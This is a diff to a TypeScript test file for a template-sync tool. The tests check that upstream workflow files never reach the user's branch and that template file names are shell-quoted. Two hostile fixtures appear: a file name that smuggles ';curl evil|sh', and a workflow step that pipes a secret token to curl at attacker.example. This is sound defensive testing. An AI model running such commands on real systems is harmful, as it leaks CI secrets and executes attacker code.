@@ -24,7 +24,7 @@ t.test('the template\'s ignore list keeps the user\'s files out of every sync, a
   t.end();
 });
 
-t.test('the plan takes changed template files, keeps files only here, and holds back workflows without the token', (t) => {
+t.test('the plan takes changed template files, keeps files only here, and never takes a workflow', (t) => {
   const changes = [
     { status: 'M' as const, path: 'src/handler.ts' },
     { status: 'A' as const, path: 'scripts/new.ts' },
@@ -32,11 +32,18 @@ t.test('the plan takes changed template files, keeps files only here, and holds 
     { status: 'D' as const, path: 'my-notes.md' },
     { status: 'M' as const, path: '.github/workflows/deploy.yml' },
   ];
-  t.same(planTemplateSync(changes, patterns, false), { take: ['src/handler.ts', 'scripts/new.ts'], onlyHere: ['my-notes.md'], ignored: ['config/skill.yaml'], workflows: ['.github/workflows/deploy.yml'] });
-  t.same(planTemplateSync(changes, patterns, true).take, ['src/handler.ts', 'scripts/new.ts', '.github/workflows/deploy.yml']);
-  const body = formatSyncBody(planTemplateSync(changes, patterns, false), 'octo/template', '0123456789abcdef');
+  t.same(planTemplateSync([...changes, { status: 'A', path: '.github/Workflows/new.yml' }], patterns), {
+    take: ['src/handler.ts', 'scripts/new.ts'],
+    onlyHere: ['my-notes.md'],
+    ignored: ['config/skill.yaml'],
+    workflows: ['.github/workflows/deploy.yml', '.github/Workflows/new.yml'],
+  });
+  const body = formatSyncBody(planTemplateSync(changes, patterns), 'octo/template', '0123456789abcdef');
   t.match(body, /Changes from the template \[octo\/template\]\(https:\/\/github\.com\/octo\/template\) at `0123456`/);
-  t.match(body, /Workflow files not updated[\s\S]*`\.github\/workflows\/deploy\.yml`/);
+  t.match(body, /Workflow files to apply yourself[\s\S]*`\.github\/workflows\/deploy\.yml`/);
+  t.match(body, /git fetch --depth=1 https:\/\/github\.com\/octo\/template\.git 0123456789abcdef\ngit diff HEAD FETCH_HEAD -- \.github\/workflows\/deploy\.yml\n/);
+  const odd = formatSyncBody(planTemplateSync([{ status: 'A', path: ".github/workflows/x.yml;curl evil|sh'" }], patterns), 'octo/template', '0123456789abcdef');
+  t.match(odd, /git checkout FETCH_HEAD -- '\.github\/workflows\/x\.yml;curl evil\|sh'\\''' *\n/, 'a name the template chose is one quoted shell word');
   t.match(body, /Only in your repository[\s\S]*`my-notes\.md`/);
   t.end();
 });
@@ -123,4 +130,56 @@ t.test('failures are one line, and pushing needs the token', async (t) => {
   const bad = createRun({});
   t.equal(await runCli('template-sync', main, ['--nope'], bad.env, bad.io), 1);
   t.match(bad.io.lines.at(-1), /usage: npm run template-sync/);
+});
+
+/**
+ * A fake `gh` for `pr list` and `pr create`: no pull request is open, and create records its
+ * arguments (one per line).
+ *
+ * @see https://cli.github.com/manual/gh_pr_list
+ * @see https://cli.github.com/manual/gh_pr_create
+ */
+function fakeGh(record: string): string {
+  const bin = mkdtempSync(join(tmpdir(), 'fake-gh-'));
+  writeFileSync(join(bin, 'gh'), `#!/bin/sh\nif [ "$1 $2" = "pr create" ]; then printf '%s\\n' "$@" > '${record}'; fi\n`);
+  chmodSync(join(bin, 'gh'), 0o755);
+  return bin;
+}
+
+t.test('upstream workflow files, changed or added, never reach a branch of your repository, whatever token is set', async (t) => {
+  const evil = 'on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ secrets.TEMPLATE_SYNC_TOKEN }} | curl -d @- https://attacker.example\n';
+  const template = repo({ 'src/a.ts': 'new code\n', '.github/workflows/deploy.yml': 'upstream deploy\n', '.github/workflows/evil.yml': evil, '.github/template-sync-ignore': IGNORE_LIST });
+  const mine = repo({ 'src/a.ts': 'old code\n', '.github/workflows/deploy.yml': 'my deploy\n', '.github/template-sync-ignore': IGNORE_LIST });
+  const bare = mkdtempSync(join(tmpdir(), 'template-sync-remote-'));
+  spawnSync('git', ['init', '-q', '--bare', bare]);
+  const record = join(mkdtempSync(join(tmpdir(), 'template-sync-gh-')), 'pr-create');
+  const cwd = process.cwd();
+  process.chdir(mine);
+  t.teardown(() => process.chdir(cwd));
+  // What earlier versions set with TEMPLATE_SYNC_TOKEN: a personal token and SYNC_WORKFLOWS=true.
+  const run = createRun({ GITHUB_REPOSITORY: 'me/mine', GH_TOKEN: 'ghp_personal', SYNC_WORKFLOWS: 'true', PATH: `${fakeGh(record)}:${process.env.PATH ?? ''}` });
+  // The push goes to github.com: a local bare repository stands in through git's url rewriting.
+  Object.assign(run.env, { GIT_CONFIG_COUNT: '1', GIT_CONFIG_KEY_0: `url.${bare}.insteadOf`, GIT_CONFIG_VALUE_0: 'https://x-access-token:ghp_personal@github.com/me/mine.git' });
+  t.equal(await runCli('template-sync', main, ['--url', template, '--template', 'octo/template'], run.env, run.io), 0, run.io.text());
+  const pushed = (path: string) => spawnSync('git', ['--git-dir', bare, 'show', `template-sync:${path}`], { encoding: 'utf8' });
+  t.equal(pushed('src/a.ts').stdout, 'new code\n', 'the template\'s code is on the branch');
+  t.equal(pushed('.github/workflows/deploy.yml').stdout, 'my deploy\n', 'a changed workflow is not');
+  t.not(pushed('.github/workflows/evil.yml').status, 0, 'an added workflow is not');
+  t.match(run.io.text(), /skip {5}\.github\/workflows\/deploy\.yml \(workflow: listed in the pull request for you to apply\)/);
+  const created = readFileSync(record, 'utf8');
+  t.match(created, /Workflow files to apply yourself\*\* \(2;[\s\S]*`\.github\/workflows\/deploy\.yml`\n- `\.github\/workflows\/evil\.yml`/, 'the pull request lists both for review');
+  t.notMatch(created, /curl/, 'and does not carry their content');
+});
+
+t.test('when only workflow files differ, the run says so instead of "up to date"', async (t) => {
+  const template = repo({ 'src/a.ts': 'same\n', '.github/workflows/ci.yml': 'upstream\n' });
+  const mine = repo({ 'src/a.ts': 'same\n', '.github/workflows/ci.yml': 'mine\n' });
+  const cwd = process.cwd();
+  process.chdir(mine);
+  t.teardown(() => process.chdir(cwd));
+  const run = createRun({ GITHUB_REPOSITORY: 'me/mine' });
+  t.equal(await runCli('template-sync', main, ['--url', template, '--template', 'octo/template'], run.env, run.io), 0, run.io.text());
+  t.match(run.io.text(), /Up to date with octo\/template \([0-9a-f]{7}\), except the workflow files to apply yourself\./);
+  t.match(run.summary(), /Workflow files to apply yourself\*\* \(1;[\s\S]*git checkout FETCH_HEAD -- \.github\/workflows\/ci\.yml/);
+  t.equal(spawnSync('git', ['branch', '--list', 'template-sync'], { cwd: mine, encoding: 'utf8' }).stdout, '', 'nothing committed');
 });
